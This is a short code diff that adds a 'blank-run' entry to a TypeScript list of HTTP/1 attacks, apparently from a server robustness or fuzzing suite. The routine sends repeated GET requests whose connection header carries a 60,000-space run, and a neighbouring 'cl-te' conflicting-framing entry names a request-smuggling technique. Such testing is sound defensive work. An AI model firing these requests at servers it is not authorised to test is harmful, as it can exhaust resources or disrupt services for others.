@@ -183,6 +183,20 @@ export const HTTP1: readonly Attack[] = [
       }
     },
   },
+  {
+    name: 'blank-run',
+    doors: DOORS,
+    known: 'a field of 60,000 blanks with something behind them',
+    limit: 'none is passed',
+    isCut: false,
+    run: async (wire, target) => {
+      const run = `a${' '.repeat(60_000)}b`
+      for (let round = 0; goesOn(wire, target, round); round++) {
+        await wire.send(`${line(target, 'GET', PATHS.small, `connection: ${run}\r\n`)}\r\n`)
+        await wire.pause(20)
+      }
+    },
+  },
   gadget(
     'cl-te',
     'conflicting-framing',
